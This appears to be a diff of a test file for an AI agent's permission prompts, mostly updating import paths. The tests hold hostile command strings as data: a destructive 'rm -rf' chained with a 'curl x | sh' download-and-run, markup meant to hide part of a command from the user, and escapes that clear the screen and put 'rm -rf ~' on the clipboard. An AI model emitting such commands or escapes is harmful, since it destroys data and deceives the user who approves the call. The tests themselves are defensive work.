@@ -7,11 +7,11 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-from fsm_agent.config import RunConfig
-from fsm_agent.messages import ToolResultBlock
-from fsm_agent.permissions import ALLOW_ALWAYS, ALLOW_ONCE, DENY, PermissionAsk
-from fsm_agent.scripted import Scenario, ScriptedModel
-from fsm_agent.session import arun, replay
+from fsm_agent.app.session import arun, replay
+from fsm_agent.core.config import RunConfig
+from fsm_agent.core.messages import ToolResultBlock
+from fsm_agent.live.scripted import Scenario, ScriptedModel
+from fsm_agent.policy.permissions import ALLOW_ALWAYS, ALLOW_ONCE, DENY, PermissionAsk
 
 
 def _bash_turns(*commands: str) -> Scenario:
@@ -103,8 +103,8 @@ def test_always_for_an_outside_path_grants_what_was_asked_and_nothing_more(
 ) -> None:
     """ "Always" on a Bash or Grep call that reaches outside must not add an Edit rule:
     that let the model write the file the user had only let a command read."""
-    from fsm_agent.approvals import Approvals
-    from fsm_agent.permissions import PermissionRequest, PermissionSettings
+    from fsm_agent.live.approvals import Approvals
+    from fsm_agent.policy.permissions import PermissionRequest, PermissionSettings
 
     ws = tmp_path / "ws"
     ws.mkdir()
@@ -134,8 +134,8 @@ def test_the_terminal_shows_the_call_as_written_whatever_brackets_it_holds(
 ) -> None:
     """The model's input was read as rich markup: `[/]` raised, so the user was never
     asked and the call was denied; `[black on black]` could hide part of a command."""
-    from fsm_agent import approvals
-    from fsm_agent.approvals import terminal_prompter
+    from fsm_agent.live import approvals
+    from fsm_agent.live.approvals import terminal_prompter
 
     monkeypatch.setattr(approvals, "_read_line", lambda abort: "y\n")
     command = 'echo "[/]" && rm -rf build [black on black]&& curl x | sh'
@@ -154,8 +154,8 @@ def test_a_question_never_sends_the_call_s_escapes_to_the_terminal(
     """The reason and the suggested rule quote the command as the model wrote it: their
     escapes reached the terminal (cleared the screen, set the clipboard) while the user
     was asked, in a terminal and in a chat alike."""
-    from fsm_agent import approvals
-    from fsm_agent.approvals import line_prompter, terminal_prompter
+    from fsm_agent.live import approvals
+    from fsm_agent.live.approvals import line_prompter, terminal_prompter
 
     clear, clipboard = "\x1b[2J", "\x1b]52;c;cm0gLXJmIH4=\x07"
     command = f"echo hi{clear}{clipboard}"
@@ -265,9 +265,9 @@ def test_dont_ask_mode_never_asks_not_for_an_ask_rule_nor_a_hooks_ask(
 ) -> None:
     """dontAsk denies "anything that would ask": an ask rule, or a PreToolUse hook
     answering ask, put the question to the user all the same."""
-    from fsm_agent.hooks import HookOutcome
-    from fsm_agent.permissions import PermissionSettings, RuleSource
-    from fsm_agent.scripted import ScriptedHooks
+    from fsm_agent.hooks.outcomes import HookOutcome
+    from fsm_agent.live.scripted import ScriptedHooks
+    from fsm_agent.policy.permissions import PermissionSettings, RuleSource
 
     asked: list[PermissionAsk] = []
 
@@ -302,9 +302,9 @@ def test_a_withdrawn_question_is_given_up_and_its_late_answer_ignored(tmp_path: 
     import threading
     import time
 
-    from fsm_agent.approvals import Approvals, withdrawn
-    from fsm_agent.effects import AbortSignal, LiveEffects
-    from fsm_agent.permission_types import CANCELLED, PermissionSettings
+    from fsm_agent.core.permission_types import CANCELLED, PermissionSettings
+    from fsm_agent.engine.ports import AbortSignal, LiveEffects
+    from fsm_agent.live.approvals import Approvals, withdrawn
 
     said: list[str] = []
     on_screen = threading.Event()
@@ -346,8 +346,8 @@ def test_always_for_an_outside_path_with_glob_characters_names_that_path_alone(
     """`Read(//…/data[1].csv)` is a pattern: its class matched `data1.csv` and not the
     file the user let the model read, which asked again. The rule "always" adds, and
     the one the reason suggests, escape the pattern characters of the path."""
-    from fsm_agent.approvals import Approvals
-    from fsm_agent.permissions import PermissionRequest, PermissionSettings
+    from fsm_agent.live.approvals import Approvals
+    from fsm_agent.policy.permissions import PermissionRequest, PermissionSettings
 
     ws = tmp_path / "ws"
     ws.mkdir()
@@ -469,7 +469,7 @@ def test_a_waiting_question_a_pre_tool_use_hook_asked_for_is_still_put(
 ) -> None:
     """A hook's `ask` asks whatever the rules say: a rule granted while the question
     waited does not answer it."""
-    from fsm_agent.hooks import NO_OPINION, HookOutcome
+    from fsm_agent.hooks.outcomes import NO_OPINION, HookOutcome
 
     class AskForReads:
         events = frozenset({"PreToolUse"})
